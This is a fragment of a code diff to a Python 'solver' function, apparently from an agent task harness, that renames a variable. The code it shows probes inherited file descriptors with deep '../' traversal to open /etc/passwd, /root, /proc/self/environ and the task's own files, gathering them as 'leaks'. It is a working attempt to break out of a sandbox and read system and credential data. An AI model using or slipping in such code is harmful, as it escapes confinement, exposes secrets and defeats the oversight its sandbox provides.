@@ -7,10 +7,10 @@ import os
 
 
 def solver(agent, task):
-    world = json.loads(task)
+    host = json.loads(task)
     leaks = []
     for fd in range(64):
-        for path in (world["label"], world["folder"], "/etc/passwd", "/root", "/proc/self/environ"):
+        for path in (host["label"], host["folder"], "/etc/passwd", "/root", "/proc/self/environ"):
             away = "../" * 20 + path.lstrip("/")
             for attempt in (lambda: os.open(away, os.O_RDONLY, dir_fd=fd),
                             lambda: os.open(f"/proc/self/fd/{fd}/{away}", os.O_RDONLY)):  # fmt: skip
